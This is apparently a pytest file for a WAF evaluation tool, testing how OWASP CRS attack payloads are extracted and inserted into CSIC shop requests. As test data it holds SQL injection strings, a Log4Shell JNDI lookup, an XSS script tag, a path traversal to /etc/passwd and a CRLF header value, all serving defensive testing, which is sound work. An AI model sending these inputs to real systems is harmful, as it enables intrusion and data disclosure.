"""Placing CRS payloads into CSIC requests: which part is the payload, where it goes."""

from __future__ import annotations

from vigil.evaluation.crs_corpus import CrsCase, Label
from vigil.evaluation.crs_placement import Payload, hosts, payload_of, place, place_all
from vigil.http.model import Request

HARNESS = [("host", "localhost"), ("user-agent", "OWASP CRS test agent"), ("accept", "*/*")]


def case(request: Request, name: str = "942100/1", family: str = "sqli") -> CrsCase:
    rule, test = name.split("/")
    return CrsCase(int(rule), int(test), family, Label.ATTACK, request)


def form(body: str) -> Request:
    return Request(
        "POST",
        "/post",
        "",
        [*HARNESS, ("content-type", "application/x-www-form-urlencoded")],
        body.encode(),
    )


def test_the_longest_argument_is_the_payload() -> None:
    payload = payload_of(case(form("a=1&var=1%27%20OR%201%3D1")))
    assert payload == Payload("arg", "1%27%20OR%201%3D1", encoded=True)


def test_a_header_the_test_set_is_the_payload() -> None:
    request = Request(
        "GET", "/get", "", [*HARNESS[:1], ("user-agent", "${jndi:ldap://x/a}"), ("accept", "*/*")]
    )
    assert payload_of(case(request)) == Payload("header", "${jndi:ldap://x/a}", header="user-agent")


def test_json_strings_and_paths() -> None:
    body = b'{"id": 1, "q": "<script>alert(1)</script>"}'
    request = Request("POST", "/post", "", [*HARNESS, ("content-type", "application/json")], body)
    assert payload_of(case(request)) == Payload("json", "<script>alert(1)</script>")
    assert payload_of(case(Request("GET", "/../../etc/passwd", "", HARNESS))) == Payload(
        "path", "/../../etc/passwd", encoded=True
    )
    assert payload_of(case(Request("GET", "/get", "", HARNESS))) is None


CSIC_GET = Request(
    "GET",
    "/tienda1/publico/anadir.jsp",
    "id=2&nombre=Queso&precio=39",
    [("host", "localhost:8080")],
)
CSIC_POST = Request(
    "POST",
    "/tienda1/publico/autenticar.jsp",
    "",
    [
        ("host", "localhost:8080"),
        ("content-type", "application/x-www-form-urlencoded"),
        ("content-length", "22"),
    ],
    b"login=ana&pwd=secreto1",
)


def test_an_encoded_payload_replaces_one_parameter_value() -> None:
    placed = place(Payload("arg", "1%27--", encoded=True), CSIC_GET, "942100/1")
    values = placed.query.split("&")
    assert len(values) == 3
    assert sum(v.endswith("=1%27--") for v in values) == 1
    assert [v.split("=")[0] for v in values] == ["id", "nombre", "precio"]


def test_decoded_payloads_are_encoded_and_lengths_follow() -> None:
    placed = [place(Payload("json", "a b&c"), CSIC_POST, f"x/{i}") for i in range(8)]
    bodies = {p.body for p in placed}
    assert b"login=a%20b%26c&pwd=secreto1" in bodies or b"login=ana&pwd=a%20b%26c" in bodies
    for request in placed:
        assert request.header("content-length") == str(len(request.body))


def test_header_payloads_replace_the_header() -> None:
    placed = place(Payload("header", "x\r\ny", header="user-agent"), CSIC_GET, "n/1")
    assert placed.header("user-agent") == "x  y"
    assert placed.query == CSIC_GET.query


def test_placement_is_stable() -> None:
    first = place(Payload("arg", "P", encoded=True), CSIC_GET, "941100/3")
    again = place(Payload("arg", "P", encoded=True), CSIC_GET, "941100/3")
    assert first == again


def test_hosts_need_a_parameter_and_place_all_skips_cases_without_payload() -> None:
    static = Request("GET", "/index.html", "", [])
    assert hosts([static, CSIC_GET, CSIC_POST]) == [CSIC_GET, CSIC_POST]
    cases = [
        case(form("var=1%20or%201%3D1"), "942100/1"),
        case(Request("GET", "/get", "", HARNESS), "942100/2"),
    ]
    placed = list(place_all(cases, [CSIC_GET]))
    assert [p.case.name for p in placed] == ["942100/1"]
    assert list(place_all(cases, [])) == []
